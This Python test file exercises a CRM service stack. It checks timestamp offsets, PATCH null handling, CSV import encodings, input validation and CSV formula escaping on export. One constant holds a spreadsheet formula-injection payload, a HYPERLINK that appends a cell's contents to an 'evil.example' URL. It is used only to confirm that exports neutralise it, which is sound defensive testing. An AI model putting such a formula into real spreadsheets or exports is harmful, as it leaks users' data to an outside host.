"""What a fuzzer and a careful tester found (issue 19), through the gateway of the
PostgreSQL stack: every time in typical answers of every service carries its UTC offset,
null for a field no PATCH route can empty is a 422 naming it, the CSV import reads what
Excel writes and the exports escape formulas, bounds and control characters are 422s,
and a portal login link reaches an address with a non-ASCII local part."""

from __future__ import annotations

import csv
import io
import re
import uuid
from typing import Any

import httpx
from pydantic import BaseModel

from crm_campaigns.opportunities.schemas import OpportunityUpdate
from crm_contacts.schemas import ContactUpdate
from crm_dev.stack import Stack
from crm_dev.testing import Mailbox
from crm_dev.testkit import Kit
from crm_gateway.schemas import CompetenceUpdate, StaffUpdate
from crm_history.schemas import EntryUpdate
from crm_interactions.interactions.schemas import InteractionUpdate
from crm_interactions.procedures.schemas import ProcedureUpdate

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
MOMENT = re.compile(
    r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}(:\d{2}(\.\d+)?)?(?P<offset>Z|[+-]\d{2}:\d{2})?$"
)


def tag() -> str:
    return uuid.uuid4().hex[:10]


async def ok(response: httpx.Response, status: int = 200) -> Any:
    assert response.status_code == status, response.text
    return response.json() if response.content else None


def interaction(cid: str, **fields: Any) -> dict[str, Any]:
    return {"contact_id": cid, "topic": "T", "kind": "internal", "text": "x", **fields}


def procedure(cid: str, **fields: Any) -> dict[str, Any]:
    return {
        "contact_id": cid,
        "type": "call",
        "direction": "outgoing",
        "state": "planned",
        "starts_at": "2031-01-02T09:00:00+01:00",
        "duration_minutes": 0,  # planned: 0 until it is done
        "reminder": True,
        "subject": "S",
        **fields,
    }


def opportunity(cid: str, **fields: Any) -> dict[str, Any]:
    return {
        "contact_id": cid,
        "title": "T",
        "crm_status": "Bedarf ermittelt",
        "closing_probability": 10,
        "revenue_potential": "100",
        **fields,
    }


async def new_contact(api: httpx.AsyncClient, **fields: Any) -> dict[str, Any]:
    body = {"kind": "person", "name": f"Erika {tag()}", "status": "prospect", **fields}
    contact: dict[str, Any] = await ok(await api.post("/api/contacts", json=body), 201)
    return contact


def naive_moments(value: Any, path: str = "$") -> list[str]:
    """Where a JSON answer holds a date-time without a UTC offset."""
    if isinstance(value, dict):
        return [p for k, v in value.items() for p in naive_moments(v, f"{path}.{k}")]
    if isinstance(value, list):
        return [p for i, v in enumerate(value) for p in naive_moments(v, f"{path}[{i}]")]
    if isinstance(value, str) and (match := MOMENT.match(value)) and not match["offset"]:
        return [f"{path} = {value}"]
    return []


async def test_every_time_in_the_answers_of_every_service_has_its_offset(
    api: httpx.AsyncClient, kit: type[Kit]
) -> None:
    staff = await kit.new_staff(api)
    contact = await new_contact(api, assignment={"mode": "staff", "staff_id": staff["id"]})
    cid = contact["id"]
    answers: dict[str, Any] = {"POST /api/contacts": contact}

    async def get(path: str, **params: Any) -> None:
        answers[f"GET {path}"] = await ok(await api.get(path, params=params))

    async def send(method: str, path: str, body: Any, status: int = 201) -> Any:
        answers[f"{method} {path}"] = await ok(await api.request(method, path, json=body), status)
        return answers[f"{method} {path}"]

    await send("PATCH", f"/api/contacts/{cid}", {"phone": "030 1"}, 200)
    await send("POST", "/api/groups", {"name": f"Gruppe {tag()}", "contact_ids": [cid]})
    await send("POST", "/api/interactions", interaction(cid, follow_up_on="2031-01-02"))
    await send("POST", "/api/procedures", procedure(cid))
    await send("POST", f"/api/contacts/{cid}/history", {"text": "x"})
    bulk = {"selection": {"contact_ids": [cid]}, "entry": {"text": "alle"}}
    job = await send("POST", "/api/history/bulk", bulk, 202)
    period = {"starts_on": "2030-01-01", "ends_on": "2031-12-31"}
    campaign = await send("POST", "/api/campaigns", {"name": f"Aktion {tag()}", **period})
    await ok(
        await api.post(f"/api/campaigns/{campaign['id']}/members", json={"contact_ids": [cid]})
    )
    await send("POST", "/api/opportunities", opportunity(cid))
    imported = await api.post(
        "/api/contacts/import",
        content=f"kind,name\nperson,Import {tag()}\n".encode(),
        headers={"Content-Type": "text/csv", "Prefer": "respond-async"},
    )
    await kit.eventually(
        lambda: api.get(f"/api/contacts/{cid}/history"), "history", timeout=5
    )  # the entries are written by the history service's job
    for path in (
        f"/api/contacts/{cid}",
        "/api/contacts",
        "/api/groups",
        "/api/interactions",
        "/api/procedures",
        f"/api/contacts/{cid}/history",
        f"/api/contacts/{cid}/timeline",
        f"/api/jobs/{job['job_id']}",
        "/api/campaigns",
        f"/api/campaigns/{campaign['id']}/members",
        "/api/opportunities",
        "/api/staff",
        "/api/me",
        "/api/notifications",
        f"/api/contacts/import/{imported.json()['job_id']}",
    ):
        await get(path)
    await get("/api/reminders", staff_id=staff["id"])
    found = {where: naive_moments(answer) for where, answer in answers.items()}
    assert {where: paths for where, paths in found.items() if paths} == {}
    assert sum(len(str(a)) for a in answers.values()) > 1000  # the answers had content


PATCH_ROUTES: list[tuple[str, type[BaseModel]]] = [
    ("contact", ContactUpdate),
    ("interaction", InteractionUpdate),
    ("procedure", ProcedureUpdate),
    ("history entry", EntryUpdate),
    ("opportunity", OpportunityUpdate),
    ("staff member", StaffUpdate),
    ("competence", CompetenceUpdate),
]


async def test_null_for_a_field_no_patch_can_empty_is_a_422_naming_it(
    api: httpx.AsyncClient, kit: type[Kit]
) -> None:
    """Every field of every PATCH route, sent as null: either it is cleared (200, the
    answer shows null) or a 422 names it; never a 500 or a misleading 409."""
    staff = await kit.new_staff(api)
    company = await new_contact(api, kind="company")
    number = f"K-{tag()}"
    contact = await new_contact(
        api, email=f"k-{tag()}@example.com", company_id=company["id"], customer_number=number
    )
    cid = contact["id"]

    async def created(path: str, body: dict[str, Any]) -> str:
        made: dict[str, Any] = await ok(await api.post(path, json=body), 201)
        return str(made["id"])

    details = {"description": "D", "responsible_id": staff["id"]}
    paths = {
        "contact": f"/api/contacts/{cid}",
        "interaction": "/api/interactions/"
        + await created("/api/interactions", interaction(cid, follow_up_on="2031-01-02")),
        "procedure": "/api/procedures/"
        + await created("/api/procedures", procedure(cid, **details)),
        "history entry": "/api/history/"
        + await created(f"/api/contacts/{cid}/history", {"text": "A"}),
        "opportunity": "/api/opportunities/"
        + await created("/api/opportunities", opportunity(cid, expected_users=3)),
        "staff member": f"/api/staff/{staff['id']}",
        "competence": "/api/competences/"
        + await created("/api/competences", {"name": f"K {tag()}", "member_ids": [staff["id"]]}),
    }
    wrong: list[str] = []
    for what, model in PATCH_ROUTES:
        for name in model.model_fields:
            answer = await api.patch(paths[what], json={name: None})
            if answer.status_code == 422:
                if answer.json()["errors"][0]["field"] != name:
                    wrong.append(f"{what}.{name}: 422 naming {answer.json()['errors']}")
            elif answer.status_code != 200:
                wrong.append(f"{what}.{name}: {answer.status_code} {answer.text[:200]}")
            elif answer.json().get(name, None) is not None:
                wrong.append(f"{what}.{name}: 200 but still {answer.json()[name]!r}")
    assert wrong == []


async def test_the_import_reads_what_excel_writes(api: httpx.AsyncClient) -> None:
    name = f"Jörg Müller {tag()}"
    text = f"kind,name,crm.comment1\r\nperson,{name},Grüße\r\n"

    async def imported(body: bytes, content_type: str) -> httpx.Response:
        return await api.post(
            "/api/contacts/import", content=body, headers={"Content-Type": content_type}
        )

    for body, content_type in (
        (text.encode("cp1252"), "text/csv"),  # Excel "CSV (Trennzeichen-getrennt)"
        (text.encode("cp1252"), "text/csv; charset=ISO-8859-1"),
        (text.encode("utf-16"), "text/csv"),  # Excel "Unicode-Text", with its BOM
        (text.encode("utf-16-le"), 'text/csv; charset="utf-16le"'),
        (text.encode("utf-8-sig"), "text/csv; charset=utf-8"),
    ):
        assert (await ok(await imported(body, content_type))) == {"created": 1, "errors": []}
    found = await ok(await api.get("/api/contacts", params={"q": name, "limit": 10}))
    assert [c["name"] for c in found["items"]] == [name] * 5
    assert {c["crm"].get("comment1") for c in found["items"]} == {"Grüße"}

    refused = await imported(text.encode("cp1252"), "text/csv; charset=shift_jis")
    assert refused.status_code == 415, refused.text
    assert refused.headers["content-type"] == "application/problem+json"
    bad = await imported(b"kind,name\nperson,M\xfcller\n", "text/csv; charset=utf-8")
    assert (bad.status_code, bad.headers["content-type"]) == (422, "application/problem+json")

    big = f"kind,name\nperson,{'x' * 140_000}\nperson,Klein {tag()}\n".encode()
    answer = await ok(await imported(big, "text/csv"))
    assert answer["created"] == 1
    assert [e["row"] for e in answer["errors"]] == [2]

    job = await api.post(
        "/api/contacts/import",
        content=f"kind,name\nperson,Jörg Job {tag()}\n".encode("cp1252"),
        headers={"Content-Type": "text/csv", "Prefer": "respond-async"},
    )
    assert job.status_code == 202, job.text

    async def done() -> dict[str, Any] | None:
        state = (await api.get(job.headers["location"])).json()
        return state if state["state"] != "running" else None

    finished = await Kit.eventually(done, "the import job", timeout=20)
    assert (finished["state"], finished["created"]) == ("done", 1), finished


async def test_the_exports_escape_formulas(api: httpx.AsyncClient) -> None:
    contact = await new_contact(api, name=f"{FORMULA} {tag()}", phone="+49 30 1234567")
    await ok(await api.post("/api/opportunities", json=opportunity(contact["id"], title="@1")), 201)
    export = await api.get("/api/contacts/export", params={"q": contact["name"][-10:]})
    [row] = list(csv.DictReader(io.StringIO(export.text)))
    assert (row["name"], row["phone"]) == ("'" + contact["name"], "'+49 30 1234567")
    export = await api.get("/api/opportunities/export", params={"contact_id": contact["id"]})
    [row] = list(csv.DictReader(io.StringIO(export.text)))
    assert (row["title"], row["contact_name"]) == ("'@1", "'" + contact["name"])


async def test_bounds_control_characters_and_dates_are_422s(api: httpx.AsyncClient) -> None:
    cid = (await new_contact(api))["id"]
    for method, path, body in (
        ("POST", "/api/contacts", {"kind": "person", "name": "An\x00na"}),
        ("POST", "/api/interactions", interaction(cid, topic="T\x1b[2J")),
        ("POST", "/api/interactions", interaction(cid, occurred_at="0001-01-01T00:00:00Z")),
        ("POST", f"/api/contacts/{cid}/history", {"date": "9999-12-31"}),
        ("POST", "/api/opportunities", opportunity(cid, expected_users=2**63)),
        ("PATCH", f"/api/contacts/{cid}", {"name": None}),
        ("GET", f"/api/dashboard?users_from={10**26}", None),
        ("GET", "/api/contacts?q=a%00b", None),
        ("GET", "/api/procedures/contact-search?q=%00", None),
        ("GET", "/api/interactions?contact_id=%00", None),
        ("POST", "/api/interactions", interaction("a\x00b")),  # no type checks an id
    ):
        answer = await api.request(method, path, json=body)
        assert answer.status_code == 422, (path, body, answer.status_code, answer.text[:300])
        assert answer.headers["content-type"] == "application/problem+json"


async def test_a_login_link_reaches_a_non_ascii_local_part(
    api: httpx.AsyncClient, stack: Stack, mail: Mailbox, kit: type[Kit]
) -> None:
    address = f"jörg-{tag()}@example.com"
    contact = await new_contact(api, email=address, status="customer", confirm=True)
    assert contact["email"] == address
    async with kit.TopicTail(stack.config.kafka_bootstrap, "crm.notifications") as tail:
        async with httpx.AsyncClient(base_url=stack.gateway_url) as browser:
            answer = await browser.post("/portal/api/login-link", json={"email": address})
            assert answer.status_code == 202, answer.text
        # a link asked before the contact's copy arrived goes out when it does
        await kit.eventually(lambda: received(mail, address), "the login link mail", timeout=20)
        await tail.collect(
            lambda events: bool(tail.named("EmailSent", recipient=address)), timeout=10
        )
    assert "/portal/login?token=" in received(mail, address)[0]
    assert len(tail.named("EmailSent", recipient=address)) == 1


def received(mail: Mailbox, address: str) -> list[str]:
    """The mails to ``address``, as text (an SMTPUTF8 header is raw UTF-8)."""
    files = [*(mail.maildir / "new").iterdir(), *(mail.maildir / "cur").iterdir()]
    texts = [f.read_bytes().decode("utf-8", "replace") for f in files]
    return [text for text in texts if f"To: {address}" in text]
